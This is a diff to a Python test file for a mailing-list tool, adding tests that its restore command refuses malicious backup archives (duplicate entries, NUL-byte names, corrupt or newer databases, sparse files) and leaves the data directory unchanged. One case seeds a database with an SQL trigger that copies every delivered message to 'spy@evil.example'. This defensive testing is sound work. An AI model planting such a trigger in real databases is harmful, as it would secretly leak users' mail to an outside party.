@@ -155,3 +155,79 @@ def test_the_readmes_backup_block_works_as_written(tmp_path):
     assert new.sent_to() == ["ann@example.org", "bob@example.net"] or \
         sorted(new.sent_to()) == ["ann@example.org", "bob@example.net"]
     assert old.sent_to() == []
+
+
+def make_tar(path, entries):
+    """A tar of (name, bytes or None for a folder, type) entries, in order."""
+    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
+        for name, data, *kind in entries:
+            info = tarfile.TarInfo(name)
+            info.type = kind[0] if kind else (tarfile.DIRTYPE if data is None else tarfile.REGTYPE)
+            info.size = len(data or b"")
+            tar.addfile(info, io.BytesIO(data) if data else None)
+    return path
+
+
+def a_database(tmp_path, sql=""):
+    """The bytes of a database redsky made, with ``sql`` run in it."""
+    import sqlite3
+    rs = Redsky(tmp_path / f"db{abs(hash(sql))}")
+    rs.newlist(LIST, members=("bob@example.net",))
+    if sql:
+        db = sqlite3.connect(rs.home / "redsky.db")
+        db.executescript(sql)
+        db.close()
+    db = sqlite3.connect(rs.home / "redsky.db")
+    db.execute("PRAGMA wal_checkpoint(TRUNCATE)")   # the file holds it all
+    db.close()
+    return (rs.home / "redsky.db").read_bytes()
+
+
+@pytest.mark.parametrize("case", ["garbage-then-real", "real-twice", "spool-a-file", "nul-name", "not-sqlite",
+                                  "trigger", "view", "newer", "sparse"])
+def test_restore_is_all_or_nothing_and_takes_only_what_redsky_made(tmp_path, case):
+    """The reviewer's backups: each is refused whole, and the data directory is left as it was (empty)."""
+    real = a_database(tmp_path)
+    entries = {
+        "garbage-then-real": lambda: [("redsky.db", b"garbage"), ("redsky.db", real)],
+        "real-twice": lambda: [("redsky.db", real), ("spool", None), ("spool/x.eml", b"x"), ("spool/x.eml", b"y")],
+        "spool-a-file": lambda: [("redsky.db", real), ("spool", b"not a folder")],
+        "nul-name": lambda: [("redsky.db", real), ("archive/a\x00b", b"x")],
+        "not-sqlite": lambda: [("redsky.db", b"SQLite format 3\x00" + b"\xff" * 2000)],
+        "trigger": lambda: [("redsky.db", a_database(tmp_path, "CREATE TRIGGER spy AFTER INSERT ON deliveries"
+                                                     " BEGIN INSERT OR IGNORE INTO deliveries (message, address)"
+                                                     " VALUES (NEW.message, 'spy@evil.example'); END;"))],
+        "view": lambda: [("redsky.db", a_database(tmp_path, "CREATE VIEW everyone AS SELECT address FROM members;"))],
+        "newer": lambda: [("redsky.db", a_database(tmp_path, "PRAGMA user_version = 999;"))],
+    }
+    if case == "sparse":
+        path = tmp_path / "sparse.tar"
+        data = tmp_path / "big"
+        with open(data, "wb") as fh:
+            fh.truncate(64 * 1024 * 1024)
+        r = subprocess.run(["tar", "--sparse", "-cf", str(path), "-C", str(tmp_path), "big", "--transform",
+                            "s,big,redsky.db,"], capture_output=True)
+        if r.returncode != 0:
+            pytest.skip("no GNU tar")
+    else:
+        path = make_tar(tmp_path / f"{case}.tar", entries[case]())
+    rs = Redsky(tmp_path / "home")
+    (rs.home / "redsky.db").unlink(missing_ok=True)
+    before = sorted(p.name for p in rs.home.iterdir())
+    r = rs.run("restore", str(path))
+    assert "Traceback" not in r.err and "internal error" not in r.err
+    if case == "nul-name" and r.returncode == 0:     # tarfile ends the name at the NUL: archive/a
+        return
+    assert r.returncode in (65, 75) and "nothing was restored" in r.err, r.err
+    assert sorted(p.name for p in rs.home.iterdir()) == before
+
+
+def test_restore_takes_nothing_into_a_data_directory_with_a_spool_file(tmp_path):
+    rs = Redsky(tmp_path / "home")
+    (rs.home / "redsky.db").unlink(missing_ok=True)
+    (rs.home / "spool").mkdir(exist_ok=True)
+    (rs.home / "spool" / "left.eml").write_bytes(b"x")
+    path = make_tar(tmp_path / "b.tar", [("redsky.db", a_database(tmp_path)), ("spool", None)])
+    r = rs.run("restore", str(path))
+    assert r.returncode == 64 and "exists already" in r.err
+    assert not (rs.home / "redsky.db").exists()
